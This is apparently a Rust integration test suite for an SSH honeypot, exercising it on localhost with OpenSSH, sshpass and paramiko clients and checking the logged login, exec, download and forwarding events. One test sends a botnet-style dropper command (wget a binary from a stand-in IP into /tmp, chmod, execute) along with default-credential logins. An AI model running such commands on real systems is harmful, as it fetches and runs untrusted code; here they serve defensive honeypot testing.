//! The SSH honeypot against real clients: OpenSSH (`ssh` + `sshpass`), paramiko,
//! and a raw socket reading our KEXINIT. Only 127.0.0.1, bounded counts and time.
//! A test whose tool is missing skips locally and fails when `CI=true`.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::{Command, Stdio};
use std::time::Duration;

use nectar_event::{Event, Kind};
use nectar_honeypot::ssh::parser::KexInit;
use nectar_honeypot::ssh::profile::{self, openssh_9_2};
use nectar_honeypot::ssh::{SshHoneypot, SshHoneypotConfig};
use nectar_store::EventSender;
use tokio::sync::mpsc::Receiver;

struct Pot {
    honeypot: Option<SshHoneypot>,
    events: Receiver<Event>,
    addr: SocketAddr,
    _dir: tempfile::TempDir,
}

async fn start(config: SshHoneypotConfig) -> Pot {
    let dir = tempfile::tempdir().unwrap();
    let (bus, events) = EventSender::channel(100_000);
    let config = SshHoneypotConfig {
        listen: "127.0.0.1:0".parse().unwrap(),
        hostname: "web-7".into(),
        ..config
    };
    let honeypot = SshHoneypot::start(config, dir.path(), "test", bus)
        .await
        .unwrap();
    let addr = honeypot.local_addr();
    Pot {
        honeypot: Some(honeypot),
        events,
        addr,
        _dir: dir,
    }
}

impl Pot {
    /// Stops the honeypot and returns every event it produced.
    async fn finish(mut self) -> Vec<Event> {
        if let Some(h) = self.honeypot.take() {
            h.stop(Duration::from_secs(10)).await;
        }
        let mut out = Vec::new();
        while let Ok(e) = self.events.try_recv() {
            out.push(e);
        }
        out
    }
}

/// Whether `tool` runs; panics under CI when it does not.
fn have(tool: &str, probe: &[&str]) -> bool {
    let ok = Command::new(tool)
        .args(probe)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .is_ok();
    if !ok && std::env::var("CI").is_ok_and(|v| v == "true") {
        panic!(
            "{tool} is needed by this test (apt-get install openssh-client sshpass python3-paramiko)"
        );
    }
    if !ok {
        eprintln!("skipping: {tool} not installed");
    }
    ok
}

fn python_with_paramiko() -> Option<&'static str> {
    for py in ["/usr/bin/python3", "python3"] {
        let ok = Command::new(py)
            .args(["-c", "import paramiko"])
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
        if ok {
            return Some(py);
        }
    }
    if std::env::var("CI").is_ok_and(|v| v == "true") {
        panic!("python3-paramiko is needed by this test");
    }
    eprintln!("skipping: paramiko not installed");
    None
}

fn ssh(addr: SocketAddr, password: &str, user: &str, extra: &[&str]) -> std::process::Output {
    let port = addr.port().to_string();
    let mut cmd = Command::new("timeout");
    cmd.args(["30", "sshpass", "-p", password, "ssh"])
        .args([
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
        ])
        .args(["-o", "LogLevel=ERROR", "-o", "PubkeyAuthentication=no"])
        .args(["-o", "PreferredAuthentications=password", "-p", &port])
        .arg(format!("{user}@127.0.0.1"))
        .args(extra);
    cmd.output().unwrap()
}

fn of(events: &[Event], kind: Kind) -> Vec<&Event> {
    events.iter().filter(|e| e.kind == kind).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn kexinit_matches_openssh_but_for_what_russh_lacks() {
    let pot = start(SshHoneypotConfig::default()).await;
    let addr = pot.addr;
    let (banner, kex) = tokio::task::spawn_blocking(move || {
        let mut s = TcpStream::connect(addr).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        s.write_all(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10\r\n")
            .unwrap();
        let mut data = Vec::new();
        let mut buf = [0u8; 4096];
        loop {
            let n = s.read(&mut buf).unwrap();
            assert!(n > 0, "closed early");
            data.extend_from_slice(&buf[..n]);
            if let Some(i) = data.iter().position(|&b| b == b'\n')
                && let Ok(Some(k)) = KexInit::parse_packet(&data[i + 1..])
            {
                return (String::from_utf8_lossy(&data[..i]).trim_end().to_owned(), k);
            }
        }
    })
    .await
    .unwrap();
    assert_eq!(banner, profile::DEBIAN_12_BANNER);
    assert_eq!(kex.kex, profile::without_missing(openssh_9_2::KEX));
    assert_eq!(kex.host_key, openssh_9_2::HOST_KEY);
    assert_eq!(kex.enc_s2c, openssh_9_2::CIPHERS);
    assert_eq!(kex.mac_s2c, profile::without_missing(openssh_9_2::MACS));
    assert_eq!(kex.comp_s2c, openssh_9_2::COMPRESSION);
    // What is left to differ: exactly the algorithms russh does not implement.
    assert_ne!(kex.hassh_server(), openssh_9_2::HASSH_SERVER);
    pot.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn non_ssh_clients_get_openssh_error_strings() {
    let pot = start(SshHoneypotConfig::default()).await;
    let addr = pot.addr;
    let replies = tokio::task::spawn_blocking(move || {
        let mut out = Vec::new();
        for line in [&b"GET / HTTP/1.0\r\n\r\n"[..], b"SSH-1.5-x\r\n"] {
            let mut s = TcpStream::connect(addr).unwrap();
            s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
            s.write_all(line).unwrap();
            let mut data = Vec::new();
            let _ = s.read_to_end(&mut data);
            out.push(String::from_utf8_lossy(&data).into_owned());
        }
        out
    })
    .await
    .unwrap();
    assert!(
        replies[0].ends_with("\r\nInvalid SSH identification string.\r\n"),
        "{replies:?}"
    );
    assert!(
        replies[1].ends_with("\r\nProtocol major versions differ.\r\n"),
        "{replies:?}"
    );
    pot.finish().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn openssh_logins_exec_and_downloads_are_events() {
    if !have("sshpass", &["-V"]) || !have("ssh", &["-V"]) {
        return;
    }
    let pot = start(SshHoneypotConfig::default()).await;
    let addr = pot.addr;
    let (bad, good) = tokio::task::spawn_blocking(move || {
        let bad = ssh(addr, "hunter2", "root", &["id"]);
        let good = ssh(
            addr,
            "123456",
            "root",
            &["uname -a; cat /proc/cpuinfo | grep name | wc -l; cd /tmp && wget http://198.51.100.7/bins/x86 && chmod +x x86 && ./x86; nosuchcmd"],
        );
        (bad, good)
    })
    .await
    .unwrap();
    assert!(!bad.status.success());
    let stdout = String::from_utf8_lossy(&good.stdout);
    let stderr = String::from_utf8_lossy(&good.stderr);
    assert!(
        stdout.starts_with("Linux web-7 6.1.0-28-amd64"),
        "{stdout} {stderr}"
    );
    assert!(stdout.contains("\n2\n"), "{stdout}");
    // Without a terminal stderr shares the data stream (no extended data yet).
    let all = format!("{stdout}{stderr}");
    assert!(all.contains("saved ["), "{all}");
    assert!(all.contains("nosuchcmd: command not found"), "{all}");
    let events = pot.finish().await;
    let failed = of(&events, Kind::SshLoginFailed);
    assert_eq!(failed.len(), 1, "{failed:?}");
    assert_eq!(failed[0].data["username"], "root");
    assert_eq!(failed[0].data["password"], "hunter2");
    assert!(
        failed[0].data["client_version"]
            .as_str()
            .unwrap()
            .starts_with("SSH-2.0-OpenSSH_")
    );
    assert_eq!(failed[0].data["hassh"].as_str().unwrap().len(), 32);
    let ok = of(&events, Kind::SshLoginSuccess);
    assert_eq!(ok.len(), 1);
    assert_eq!(ok[0].data["password"], "123456");
    let exec = of(&events, Kind::SshExec);
    assert_eq!(exec.len(), 1);
    assert!(exec[0].data["input"].as_str().unwrap().contains("wget"));
    let dl = of(&events, Kind::SshDownload);
    assert_eq!(dl.len(), 1);
    assert_eq!(dl[0].data["url"], "http://198.51.100.7/bins/x86");
    // The HASSH lists are logged once, not per connection.
    assert_eq!(of(&events, Kind::SshClientKex).len(), 1);
    // Every event of a connection carries its session id.
    let sessions: std::collections::HashSet<_> =
        events.iter().map(|e| e.data["session"].clone()).collect();
    assert_eq!(sessions.len(), 2);
    assert_eq!(of(&events, Kind::SessionClose).len(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn interactive_shell_over_a_pty() {
    if !have("sshpass", &["-V"]) || !have("ssh", &["-V"]) {
        return;
    }
    let pot = start(SshHoneypotConfig::default()).await;
    let addr = pot.addr;
    let out = tokio::task::spawn_blocking(move || {
        let port = addr.port().to_string();
        let mut child = Command::new("timeout")
            .args(["30", "sshpass", "-p", "raspberry", "ssh", "-tt"])
            .args([
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
            ])
            .args([
                "-o",
                "LogLevel=ERROR",
                "-o",
                "PubkeyAuthentication=no",
                "-p",
                &port,
            ])
            .arg("pi@127.0.0.1")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        std::thread::sleep(Duration::from_secs(2));
        stdin.write_all(b"whoami; pwd\nexit\n").unwrap();
        child.wait_with_output().unwrap()
    })
    .await
    .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("pi@web-7:~$ "), "{text}");
    assert!(text.contains("pi\r\n/home/pi\r\n"), "{text}");
    let events = pot.finish().await;
    let commands: Vec<_> = of(&events, Kind::SshCommand)
        .iter()
        .map(|e| e.data["input"].clone())
        .collect();
    assert_eq!(commands, ["whoami; pwd", "exit"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn paramiko_attempts_exec_and_forwarding() {
    let Some(py) = python_with_paramiko() else {
        return;
    };
    let pot = start(SshHoneypotConfig::default()).await;
    let port = pot.addr.port().to_string();
    let script = r#"
import sys, paramiko, socket
port = int(sys.argv[1])
# Wrong passwords, one connection each (paramiko re-sends SERVICE_REQUEST on a
# reused transport, which russh ignores: paramiko/paramiko#1687).
for i in range(2):
    c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        c.connect("127.0.0.1", port=port, username="admin", password="wrong%d" % i, look_for_keys=False, allow_agent=False, timeout=10)
    except paramiko.AuthenticationException:
        print("refused")
    c.close()
c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect("127.0.0.1", port=port, username="admin", password="admin", look_for_keys=False, allow_agent=False, timeout=10)
_, out, _ = c.exec_command("echo -e 'hi\\x21'; hostname")
print(out.read().decode().replace("\n", "|"))
try:
    c.get_transport().open_channel("direct-tcpip", ("10.1.2.3", 25), ("127.0.0.1", 4444), timeout=10)
    print("forward opened")
except paramiko.ChannelException as e:
    print("forward refused", e.code)
c.close()
"#;
    let py = py.to_owned();
    let out = tokio::task::spawn_blocking(move || {
        Command::new("timeout")
            .args(["60", &py, "-c", script, &port])
            .output()
            .unwrap()
    })
    .await
    .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("hi!|web-7|"),
        "{text} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("forward refused 1"), "{text}");
    assert_eq!(text.matches("refused\n").count(), 2, "{text}");
    let events = pot.finish().await;
    let failed = of(&events, Kind::SshLoginFailed);
    assert_eq!(failed.len(), 2, "{failed:?}");
    assert!(
        failed[0].data["client_version"]
            .as_str()
            .unwrap()
            .starts_with("SSH-2.0-paramiko")
    );
    let fwd = of(&events, Kind::SshForward);
    assert_eq!(fwd.len(), 1);
    assert_eq!(fwd[0].data["target_host"], "10.1.2.3");
    assert_eq!(fwd[0].data["target_port"], 25);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn per_ip_limit_refuses_and_reports() {
    let pot = start(SshHoneypotConfig {
        max_connections_per_ip: 2,
        ..Default::default()
    })
    .await;
    let addr = pot.addr;
    let closed = tokio::task::spawn_blocking(move || {
        let held: Vec<TcpStream> = (0..2).map(|_| TcpStream::connect(addr).unwrap()).collect();
        std::thread::sleep(Duration::from_millis(300));
        let mut third = TcpStream::connect(addr).unwrap();
        third
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        let mut buf = [0u8; 64];
        let n = third.read(&mut buf).unwrap_or(0);
        drop(held);
        n == 0
    })
    .await
    .unwrap();
    assert!(closed, "the third connection should be closed at once");
    let events = pot.finish().await;
    assert!(
        of(&events, Kind::SensorStatus)
            .iter()
            .any(|e| e.data["limit"] == "max_connections_per_ip")
    );
}
